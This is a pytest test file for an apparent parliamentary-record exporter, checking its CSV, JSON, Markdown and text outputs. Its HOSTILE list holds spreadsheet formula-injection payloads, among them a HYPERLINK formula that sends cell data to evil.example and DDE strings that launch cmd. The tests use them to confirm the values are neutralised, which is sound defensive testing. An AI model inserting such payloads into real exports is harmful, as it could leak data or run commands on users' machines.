"""Exports carry every field, open cleanly in spreadsheets, and never run a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from search_sample import day_2015_11_26, turn

from hansard import export
from hansard.records import OPL_ATTRIBUTION, TURN_FIELDS, SearchHit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    'He said "no", then left; a|b, c\nnew line',
]


def hostile_turns():
    return [
        turn(f"X{n}", "2015-11-26", "answer", text, name=text, member_id=None, office=text,
             party=text, title=text, department=text)
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_csv_has_every_field_and_score():
    hits = [SearchHit(t, 1.5, None) for t in day_2015_11_26()]
    rows = read_csv(export.render(hits, "csv"))
    assert list(rows[0]) == [*TURN_FIELDS, "score"]
    assert rows[0]["id"] == "SG-Q5" and rows[0]["uin"] == "902346" and rows[0]["score"] == "1.5"
    assert rows[0]["member_id"] == "4460" and rows[0]["exchange_id"] == "SG-Q5"


def test_csv_of_plain_turns_has_no_score_column():
    rows = read_csv(export.render(day_2015_11_26(), "csv"))
    assert list(rows[0]) == list(TURN_FIELDS)


def test_hostile_text_is_inert_in_a_spreadsheet():
    rendered = export.render(hostile_turns(), "csv")
    rows = read_csv(rendered)
    assert len(rows) == len(HOSTILE)
    for row, original in zip(rows, HOSTILE, strict=True):
        for column in ("text", "speaker_name", "speaker_office", "party", "department"):
            cell = row[column]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", " ", "＝")), (column, cell)
            assert cell.lstrip("'") == original  # neutralised, not altered otherwise
    assert rows[-1]["text"] == HOSTILE[-1]  # harmless text is left exactly as it was
    # every cell is quoted, so a delimiter or newline in the text cannot shift columns
    assert rendered.splitlines()[1].startswith('"X0","Commons"')


def test_neutralise_cell_leaves_ordinary_values():
    assert export.neutralise_cell(602) == "602"
    assert export.neutralise_cell(None) == ""
    assert export.neutralise_cell("Wealden") == "Wealden"
    assert export.neutralise_cell("-5") == "'-5"


def test_excel_flag_adds_a_byte_order_mark(tmp_path):
    target = tmp_path / "out.csv"
    export.write(day_2015_11_26(), "csv", output=target, excel=True)
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    assert read_csv(data.decode("utf-8"))[0]["id"] == "SG-Q5"
    export.write(day_2015_11_26(), "csv", output=target)
    assert not target.read_bytes().startswith(b"\xef\xbb\xbf")


def test_json_is_a_list_of_turn_records_with_score():
    hits = [SearchHit(t, 2.0, "x") for t in day_2015_11_26()[:2]]
    data = json.loads(export.render(hits, "json"))
    assert [d["id"] for d in data] == ["SG-Q5", "SG-A1"]
    assert set(data[0]) == {*TURN_FIELDS, "score"}
    assert data[1]["speaker_office"] == "The Solicitor General" and data[1]["score"] == 2.0
    assert json.loads(export.render([], "json")) == []


def test_jsonl_is_one_record_a_line():
    lines = export.render(day_2015_11_26(), "jsonl").splitlines()
    assert len(lines) == 8
    assert json.loads(lines[3])["text"].startswith("My hon. Friend")


def test_markdown_table_escapes_pipes_and_ends_with_the_licence():
    text = export.render(hostile_turns(), "md")
    assert text.rstrip().endswith(OPL_ATTRIBUTION)
    body = [line for line in text.splitlines() if line.startswith("| X8") or "X8" in line]
    assert body and "a\\|b" in body[0] and "<br>new line" in body[0]
    header = text.splitlines()[0]
    assert header.count("|") == body[0].count("|") - body[0].count("\\|")


def test_text_ends_with_the_licence_and_prints_speaker_as_hansard_does():
    text = export.render(day_2015_11_26()[:2], "text")
    assert "The Solicitor General (Robert Buckland)" in text
    assert "Nusrat Ghani (Wealden) (Con)" in text
    assert text.rstrip().endswith(OPL_ATTRIBUTION)


def test_file_output_is_atomic_and_leaves_no_temporary_files(tmp_path):
    target = tmp_path / "out.json"
    target.write_text("old")

    def broken():
        yield day_2015_11_26()[0]
        raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError):
        export.write(broken(), "json", output=target)
    assert target.read_text() == "old"
    export.write(day_2015_11_26(), "json", output=target)
    assert len(json.loads(target.read_text())) == 8
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]
